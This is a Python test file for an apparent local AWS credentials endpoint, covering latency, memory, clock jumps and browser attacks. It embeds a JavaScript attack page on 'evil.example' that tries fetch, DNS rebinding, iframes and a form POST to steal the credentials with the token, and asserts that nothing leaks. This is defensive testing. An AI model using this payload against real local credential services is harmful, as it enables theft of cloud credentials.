"""What `exec --serve` costs, and what neither time nor a browser gets out of it."""

from __future__ import annotations

import json
import shutil
import statistics
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from tests.serving.conftest import ask, keep, noted, served, wait_until

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="it looks at /proc")
ANSWERS = 2_000
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
# An http.server that does nothing but answer, in a process of its own like the endpoint.
BARE = """
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
BODY = b"x" * 450
class Handler(BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Length", str(len(BODY)))
        self.end_headers()
        self.wfile.write(BODY)
    def log_message(self, *_):
        pass
server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
print(server.server_port, flush=True)
server.serve_forever()
"""


@contextmanager
def bare_server() -> Iterator[dict[str, str]]:
    with subprocess.Popen([sys.executable, "-c", BARE], stdout=subprocess.PIPE, text=True) as bare:
        url = f"http://127.0.0.1:{bare.stdout.readline().strip()}/session"
        yield {
            "AWS_CONTAINER_CREDENTIALS_FULL_URI": url,
            "AWS_CONTAINER_AUTHORIZATION_TOKEN": "x",
        }
        bare.terminate()


def seconds(call: Callable[[], object]) -> float:
    began = time.perf_counter()
    call()
    return time.perf_counter() - began


def get(environ: dict[str, str]) -> None:
    """Ask as `ask` does, without reading JSON."""
    import http.client

    url = urlsplit(environ["AWS_CONTAINER_CREDENTIALS_FULL_URI"])
    connection = http.client.HTTPConnection(url.netloc, timeout=30)
    token = environ["AWS_CONTAINER_AUTHORIZATION_TOKEN"]
    connection.request("GET", url.path, headers={"Authorization": token})
    answer = connection.getresponse()
    assert (answer.status, len(answer.read()) > 100) == (200, True)
    connection.close()


def test_an_answer_takes_at_most_half_again_as_long_as_one_of_a_bare_server(home) -> None:
    """Each answer reads the AWS files again; the two are asked in turn, in the same run."""
    keep(home)
    with served(home) as command, bare_server() as bare:
        for _ in range(50):
            get(command.environ)
            get(bare)
        ours, theirs = zip(
            *(
                (seconds(lambda: get(command.environ)), seconds(lambda: get(bare)))
                for _ in range(ANSWERS)
            ),
            strict=True,
        )
    ratio = statistics.median(ours) / statistics.median(theirs)
    assert ratio <= 1.5


def test_memory_is_flat_over_twenty_thousand_requests(home) -> None:
    keep(home)
    with served(home) as command:

        def resident() -> int:
            status = Path(f"/proc/{command.server}/status").read_text()
            return int(next(s.split()[1] for s in status.splitlines() if s.startswith("VmRSS")))

        for _ in range(1_000):
            get(command.environ)
        before = resident()
        for number in range(20_000):
            if number % 4:
                get(command.environ)
            else:
                assert ask(command.environ, Authorization="wrong")[0] == 403
        grown = resident() - before
    assert grown < 1024, f"{grown} KiB more"


def test_a_clock_that_jumps_ends_a_session_and_brings_it_back(home) -> None:
    """The server goes by its own clock: after a jump it says that the session has ended."""
    library = next(Path("/usr/lib").glob("*/faketime/libfaketimeMT.so.1"), None)
    if library is None:
        pytest.skip("faketime is not installed")
    keep(home, minutes=60)
    clock = home.folder / "clock"
    clock.write_text("+0")
    fake = {
        "LD_PRELOAD": str(library),
        "FAKETIME_TIMESTAMP_FILE": str(clock),
        "FAKETIME_NO_CACHE": "1",
        "DONT_FAKE_MONOTONIC": "1",
        "FAKETIME_DONT_FAKE_MONOTONIC": "1",
        "DISPLAY": "",
        "XDG_RUNTIME_DIR": "/nowhere",
    }
    with served(home, **fake) as command:
        assert ask(command.environ)[0] == 200
        clock.write_text("+2h")
        status, error = ask(command.environ)
        assert (status, error["code"]) == (503, "SessionEnded")
        wait_until(lambda: "was not renewed" in noted(home))
        clock.write_text("-2h")
        assert ask(command.environ)[0] == 200
        clock.write_text("+0")
        assert ask(command.environ)[0] == 200


class _Page(BaseHTTPRequestHandler):
    """A web page of another site that attacks the endpoint."""

    attack = ""

    def do_GET(self) -> None:
        body = self.attack.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        pass


ATTACK = """<title>wait</title><body><script>
const url = "URL", rebound = url.replace("127.0.0.1", "evil.example"), token = "TOKEN";
async function tried(address, options) {
  try { const answer = await fetch(address, options); return await answer.text() || answer.type; }
  catch (error) { return "refused"; }
}
function shown(make) {
  return new Promise(done => {
    const frame = document.createElement("iframe");
    frame.name = "shown" + Math.random();
    frame.onload = () => { try { done(frame.contentDocument.body.innerText); }
                           catch (error) { done("refused"); } };
    document.body.append(frame);
    make(frame);
  });
}
(async () => {
  const found = [
    await tried(url), await tried(url, {mode: "no-cors"}),
    await tried(url, {headers: {Authorization: token}}),
    await tried(rebound), await tried(rebound, {headers: {Authorization: token}}),
    await tried(url, {method: "POST", body: "x"}),
    await shown(frame => frame.src = url),
    await shown(frame => {
      const form = document.createElement("form");
      Object.assign(form, {method: "post", action: rebound, target: frame.name});
      document.body.append(form);
      form.submit();
    }),
  ];
  document.body.innerText = JSON.stringify(found);
  document.title = "done";
})();
</script>"""


@pytest.fixture
def page() -> Iterator[tuple[str, type[_Page]]]:
    handler = type("Page", (_Page,), {})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://evil.example:{server.server_port}/", handler
    server.shutdown()
    server.server_close()


def test_a_web_page_gets_nothing_even_with_the_token(home, page, tmp_path) -> None:
    """It tries fetch, a name that leads to loopback (rebinding), frames and a form, in Chromium."""
    if CHROMIUM is None:
        pytest.skip("chromium is not installed")
    keep(home, "ASIAOFTHEVICTIM")
    url, handler = page
    with served(home) as command:
        environ = command.environ
        handler.attack = ATTACK.replace(
            "URL", environ["AWS_CONTAINER_CREDENTIALS_FULL_URI"]
        ).replace("TOKEN", environ["AWS_CONTAINER_AUTHORIZATION_TOKEN"])
        browser = [
            CHROMIUM, "--headless=new", "--no-sandbox", "--disable-gpu", "--no-proxy-server",
            "--disable-dev-shm-usage", f"--user-data-dir={tmp_path}/chromium",
            "--host-resolver-rules=MAP evil.example 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1",
            "--disable-features=PrivateNetworkAccessSendPreflights,LocalNetworkAccessChecks",
            "--timeout=20000", "--virtual-time-budget=20000", "--dump-dom", url,
        ]  # fmt: skip
        done = home.run(*browser)
        assert "<title>done</title>" in done.stdout, done.stderr
        assert "ASIAOFTHEVICTIM" not in done.stdout
        found = json.loads(done.stdout.split("<body>")[1].split("</body>")[0].strip())
        assert len(found) == 8
        assert ask(environ)[1]["AccessKeyId"] == "ASIAOFTHEVICTIM"
